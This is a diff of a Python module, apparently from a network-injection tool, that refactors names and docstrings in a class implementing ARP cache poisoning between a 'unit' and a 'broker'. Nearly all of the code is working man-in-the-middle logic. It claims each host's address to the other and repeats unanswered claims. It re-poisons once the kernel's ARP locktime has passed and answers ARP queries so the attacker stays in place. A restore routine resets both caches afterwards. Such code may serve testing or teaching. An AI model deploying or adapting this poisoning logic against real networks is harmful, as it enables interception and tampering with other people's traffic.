@@ -1,4 +1,4 @@
-"""The ARP caches of a unit and the broker: poisoned, kept so, restored."""
+"""Poisoning of the ARP caches of a unit and the broker: taking both over, holding them, restoring them."""
 
 from dataclasses import dataclass, field
 
@@ -11,9 +11,9 @@ from coldaisle_injector.segments import Arp
 from coldaisle_injector.wire import Wire
 
 RESEND_NS = 250_000_000
-"""A claim nobody answered is repeated after so long, ns of wall time."""
+"""Wall time after which an unanswered claim is repeated, in ns."""
 LOCK_NS = 1_100_000_000
-"""A kernel that just learned an address takes no other one for a second of wall time (locktime, arp(7)), ns."""
+"""Wall time for which a kernel keeps an address that it has just learned, in ns: one second (locktime, arp(7)) and a margin."""
 _OURS = bytes.fromhex(INJECTOR.mac.replace(":", ""))
 _BROADCAST = b"\xff" * 6
 _IS_AT = 2
@@ -21,54 +21,54 @@ _IS_AT = 2
 
 @dataclass
 class Caches:
-    """Who a unit and the broker believe to be at each other's address.
+    """The ARP caches of a unit and the broker, as far as each maps the other's address.
 
     Attributes:
         unit: the victim.
         wire: the attacker's socket.
-        notes: where every frame is noted.
-        taken: whether both believe it is the attacker.
-        unanswered: addresses of those who have not yet answered a claim.
+        notes: the attacker's journal.
+        poisoned: whether both caches map the other side's address to the attacker.
+        unanswered: addresses of the victims that have not yet answered a claim.
     """
 
     unit: Host
     wire: Wire
     notes: Notes
-    taken: bool = False
+    poisoned: bool = False
     unanswered: set[str] = field(default_factory=set)
     _claimed_ns: int = 0
 
-    def take(self) -> None:
+    def poison(self) -> None:
         """Claim the unit's place at the broker and the broker's at the unit."""
-        self.taken = True
+        self.poisoned = True
         self.unanswered = {self.unit.ip, BROKER.ip}
         self._claim()
 
     def insist(self) -> None:
-        """Repeat claims nobody answered for :data:`RESEND_NS`."""
+        """Repeat claims that were not answered within :data:`RESEND_NS`."""
         if self.unanswered and self.notes.times.wall_ns() - self._claimed_ns > RESEND_NS:
             self._claim()
 
     def renew(self) -> None:
-        """Claim both places again, unless a claim is so young that a kernel may not have taken it."""
+        """Claim both places again, unless the last claim is so recent that a kernel may still ignore another."""
         if not self.unanswered and self.notes.times.wall_ns() - self._claimed_ns > LOCK_NS:
-            self.take()
+            self.poison()
 
     def restore(self) -> None:
-        """Tell both where the other really is."""
-        self.taken = False
+        """Give both sides the other's true MAC address."""
+        self.poisoned = False
         for victim, owner in self._sides():
             frame = frames.arp_restore(INJECTOR.mac, (victim.ip, victim.mac), (owner.ip, owner.mac))
             self._send(frame, victim, "restore")
 
     def on_arp(self, arp: Arp, frame: bytes) -> None:
-        """Take an answer to a claim, or answer a question about the other side."""
+        """Handle an answer to a claim, or answer a question about the other side."""
         victim, other = self._sides()[0 if arp.sender_ip == self.unit.ip else 1]
-        if not self.taken or arp.sender_ip != victim.ip:
+        if not self.poisoned or arp.sender_ip != victim.ip:
             return
         if arp.target_ip != other.ip:
-            if frame[:6] == _BROADCAST:  # the other side overheard who the sender really is
-                self.take()
+            if frame[:6] == _BROADCAST:  # the other side learned the sender's true MAC address from it
+                self.poison()
             return
         to_us = frame[:6] == _OURS
         if to_us:
@@ -78,10 +78,10 @@ class Caches:
         elif to_us:
             self._send(frames.arp_answer(INJECTOR.mac, (victim.ip, victim.mac), other.ip), victim, "poison")
         else:
-            self.take()
+            self.poison()
 
     def _sides(self) -> tuple[tuple[Host, Host], tuple[Host, Host]]:
-        """Return each victim with the host it is to be kept from."""
+        """Return each victim with the host whose place the attacker takes."""
         return (self.unit, BROKER), (BROKER, self.unit)
 
     def _claim(self) -> None:
